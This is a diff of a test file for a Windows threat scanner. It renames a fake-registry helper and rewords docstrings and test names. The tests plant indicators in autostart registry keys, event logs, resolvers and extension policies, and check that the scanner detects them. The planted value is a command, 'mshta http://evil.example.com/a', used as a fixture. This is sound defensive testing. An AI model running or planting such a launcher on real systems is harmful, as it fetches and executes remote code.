@@ -1,6 +1,6 @@
-"""Each thing that a look promises to see, planted.
+"""Each thing that a scan is to detect, planted.
 
-Event logs, caches of answers, resolvers, extensions, every place of Windows that starts something.
+Event logs, DNS caches, resolvers, extensions, every autostart location of Windows.
 """
 
 from __future__ import annotations
@@ -29,7 +29,7 @@ from lamsach.scanner.index import Hit, Index
 from lamsach.scanner.safe_open import Skipped
 
 from .planted import write
-from .test_checks_windows import HIDDEN, INTERNET, SERVICES, Made
+from .test_checks_windows import HIDDEN, INTERNET, SERVICES, FakeRegistry
 
 NT = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion"
 CURRENT = r"SOFTWARE\Microsoft\Windows\CurrentVersion"
@@ -38,7 +38,7 @@ BAD = "mshta http://evil.example.com/a"
 
 
 def record(channel: str, event: int, **data: Any) -> str:
-    """A record as the library gives it."""
+    """Return a record in the library's format."""
     system = {"EventID": event, "Channel": channel, "Provider": {"#attributes": {"Name": "x"}}}
     return json.dumps({"Event": {"System": system, "EventData": data}})
 
@@ -66,7 +66,7 @@ EVENTS = [
 
 
 class Parser:
-    """Stands for the library's: its records, or an error where one says so."""
+    """Stand-in for the library's parser: returns the test's records, or raises an error if one says so."""
 
     texts: tuple[str, ...] = ()
 
@@ -131,11 +131,11 @@ def test_the_samples_are_read_whole(context: Context, monkeypatch: pytest.Monkey
     seen: set[int] = set()
     real = event_logs._what
 
-    def noted(text: str) -> tuple[int, str]:
+    def recorded(text: str) -> tuple[int, str]:
         seen.add(real(text)[0])
         return real(text)
 
-    monkeypatch.setattr(event_logs, "_what", noted)
+    monkeypatch.setattr(event_logs, "_what", recorded)
     monkeypatch.setattr(event_logs, "hits", lambda text, index: [Hit(IndicatorType.IP, "192.0.2.1", "", "")])
     monkeypatch.setattr(event_logs, "_FOUND_PER_FILE", 10_000)
     for file in sorted(SAMPLES.glob("*.evtx")):
@@ -221,7 +221,7 @@ def test_resolvers_of_windows(
     context: Context, key: str, name: str, data: object, found: bool, removable: bool
 ) -> None:
     write(context, "etc/hosts", "")
-    check_names(context, Made({("HKLM", key, name): data}))
+    check_names(context, FakeRegistry({("HKLM", key, name): data}))
     listed = [finding for finding in context.findings if finding.reason == "listed_resolver"]
     assert bool(listed) is found
     assert any(finding.target is not None for finding in listed) is removable
@@ -249,7 +249,7 @@ def test_resolvers_of_windows(
     "data", [BAD, [BAD], BAD.encode("utf-16-le"), BAD.encode("utf-16-le") + b"x", BAD.encode()]
 )
 def test_every_place_that_starts_something(context: Context, key: tuple[str, str, str], data: object) -> None:
-    start_windows(context, Made({key: data}))
+    start_windows(context, FakeRegistry({key: data}))
     found = [finding for finding in context.findings if finding.indicator == "evil.example.com"]
     assert found
     assert all(finding.target is not None for finding in found)
@@ -269,9 +269,9 @@ def test_values_of_the_wrong_type_are_read_all_the_same(context: Context, data: 
         ("HKCU", INTERNET, "ProxyServer"),
         ("HKCU", INTERNET, "ProxyEnable"),
     ]
-    made = Made({**dict.fromkeys(keys, data), ("HKLM", rf"{CURRENT}\Run", "bad"): BAD})
-    start_windows(context, made)
-    check_proxy(context, made)
+    registry = FakeRegistry({**dict.fromkeys(keys, data), ("HKLM", rf"{CURRENT}\Run", "bad"): BAD})
+    start_windows(context, registry)
+    check_proxy(context, registry)
     assert "evil.example.com" in {finding.indicator for finding in context.findings}
 
 
@@ -286,7 +286,7 @@ def test_a_task_and_a_start_up_folder(context: Context) -> None:
         context, "home/nam/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/bad.vbs", "x"
     )
     write(context, f"{start.parent.relative_to(context.root)}/desktop.ini", "x")
-    start_windows(context, Made({}))
+    start_windows(context, FakeRegistry({}))
     assert {finding.subject for finding in context.findings if finding.indicator} == {str(file)}
     assert context.counts.start_entries == 2
 
@@ -357,12 +357,12 @@ FORCED = r"SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist"
 def test_extensions_laid_down_on_windows(
     context: Context, values: dict[tuple[str, str, str], object], found: list[str]
 ) -> None:
-    check_system(context, Made(values))
+    check_system(context, FakeRegistry(values))
     assert [finding.values["name"] for finding in context.findings] == found
 
 
 @pytest.mark.skipif(sys.platform != "linux", reason="the classes of the disk's queue are Linux's")
-def test_it_steps_back_behind_others() -> None:
+def test_the_scan_lowers_its_priority() -> None:
     code = (
         "import os, psutil; from lamsach.scanner.priority import step_back; step_back(); p = "
         "psutil.Process(); print(os.nice(0), int(p.ionice().ioclass))"
@@ -373,8 +373,8 @@ def test_it_steps_back_behind_others() -> None:
     assert disk in (0, 3)  # 0: the system refuses classes
 
 
-def test_a_connection_of_ours_is_seen(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
-    """The real list of connections of this machine, with one of their addresses taken as listed."""
+def test_a_connection_of_this_machine_is_found(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The real list of connections of this machine; one of the remote addresses counts as listed."""
 
     def covering(index: Index, kind: IndicatorType, value: str) -> Hit | None:
         return Hit(kind, value, "bot", "l:1") if value == "127.0.0.1" else None
